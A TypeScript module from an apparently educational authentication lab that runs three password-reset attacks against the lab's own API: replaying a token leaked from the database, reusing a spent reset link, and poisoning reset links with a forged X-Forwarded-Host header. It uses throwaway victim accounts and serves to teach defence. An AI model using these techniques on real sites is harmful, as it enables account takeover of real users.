import type { InboxMail, LabOrigins } from '../../../../common/api';
import { answerOf } from '../../api/client';
import type { AttackResult } from '../../components/attack-catalogue';
import { WITHOUT_SESSION, tokenOfLink } from './password-answers';

export type PasswordAttackId = 'leaked-token' | 'reused-link' | 'host-poisoning';

const random = () => crypto.getRandomValues(new Uint32Array(2)).join('').slice(0, 10);
const STOLEN_PASSWORD = 'attacker chose this one 7';

/** A throwaway victim account, so no attack touches the learner's own accounts. */
async function newVictim(): Promise<{ email: string; password: string }> {
  const email = `victim-${random()}@example.test`;
  const password = `victim pass ${random()}`;
  const res = await answerOf('POST /api/auth/register', { body: { email, password }, ...WITHOUT_SESSION });
  if (res.status !== 202) throw new Error(`Could not make a victim account: ${res.body.message ?? res.status}`);
  return { email, password };
}

async function resetMailTo(email: string): Promise<InboxMail | undefined> {
  const inbox = await answerOf('GET /api/lab/inbox', WITHOUT_SESSION);
  return inbox.body.find((m) => m.to === email && m.subject === 'Reset your Auth Lab password');
}

async function tryReset(token: string) {
  return answerOf('POST /api/password/reset', { body: { token, password: STOLEN_PASSWORD }, ...WITHOUT_SESSION });
}

async function canSignIn(email: string, password: string): Promise<boolean> {
  return (await answerOf('POST /api/session/login', { body: { email, password }, ...WITHOUT_SESSION })).status === 200;
}

/** Runs one reset attack for real against the lab, from this page. */
export async function runPasswordAttack(id: PasswordAttackId, origins: LabOrigins): Promise<AttackResult> {
  const victim = await newVictim();
  const steps = [`Made a victim account ${victim.email}.`];

  if (id === 'leaked-token') {
    await answerOf('POST /api/password/forgot', { body: { email: victim.email }, ...WITHOUT_SESSION });
    steps.push('The victim asked for a reset link; it sits unused in their mailbox.');
    const rows = await answerOf('GET /api/lab/password/resets', WITHOUT_SESSION);
    const row = rows.body.find((r) => r.email === victim.email);
    if (!row) throw new Error('The reset link was not stored.');
    steps.push(`The attacker reads the password_resets table from a leaked backup: ${row.tokenKey.slice(0, 16)}…`);
    const res = await tryReset(row.tokenKey);
    steps.push(`POST /api/password/reset with that value: ${res.status} ${res.body.error ?? res.body.status ?? ''}`);
    const succeeded = res.status === 200 && (await canSignIn(victim.email, STOLEN_PASSWORD));
    return {
      succeeded,
      summary: succeeded ? 'The stored value was the token itself.' : 'The stored value is only a hash of the token.',
      steps,
    };
  }

  if (id === 'reused-link') {
    await answerOf('POST /api/password/forgot', { body: { email: victim.email }, ...WITHOUT_SESSION });
    const token = tokenOfLink((await resetMailTo(victim.email))?.links[0] ?? '');
    if (!token) throw new Error('No reset mail arrived.');
    const first = await answerOf('POST /api/password/reset', {
      body: { token, password: `victim new pass ${random()}` },
      ...WITHOUT_SESSION,
    });
    steps.push(`The victim used the link to set a new password: ${first.status}.`);
    steps.push('Later the attacker finds the same link in the browser history of a shared computer.');
    const res = await tryReset(token);
    steps.push(`The attacker opens it again: ${res.status} ${res.body.error ?? res.body.status ?? ''}`);
    const succeeded = res.status === 200 && (await canSignIn(victim.email, STOLEN_PASSWORD));
    return {
      succeeded,
      summary: succeeded ? 'The used link set the password a second time.' : 'The link was spent by its first use.',
      steps,
    };
  }

  // Reset poisoning: the attacker asks for the victim's reset, with their own site as the forwarded host.
  const attackerHost = new URL(origins.attacker).host;
  await answerOf('POST /api/password/forgot', {
    body: { email: victim.email },
    headers: { 'x-forwarded-host': attackerHost },
    ...WITHOUT_SESSION,
  });
  steps.push(`The attacker asked for a reset of ${victim.email} with "X-Forwarded-Host: ${attackerHost}".`);
  const link = (await resetMailTo(victim.email))?.links[0] ?? '';
  steps.push(`The victim got a genuine mail from the lab, with the link ${link.replace(/token=.*/, 'token=…')}`);
  const pointsAtAttacker = link.startsWith(origins.attacker);
  if (!pointsAtAttacker) {
    steps.push('The link points at the lab itself: clicking it gives the attacker nothing.');
    return { succeeded: false, summary: 'The link came from configuration, not from the request.', steps };
  }
  steps.push('The victim clicks it; the attacker’s site logs the token from the URL and sends the victim on.');
  const res = await tryReset(tokenOfLink(link) ?? '');
  steps.push(`The attacker resets the password with the captured token: ${res.status}.`);
  const succeeded = res.status === 200 && (await canSignIn(victim.email, STOLEN_PASSWORD));
  return { succeeded, summary: 'The mailed link pointed at the attacker’s site.', steps };
}
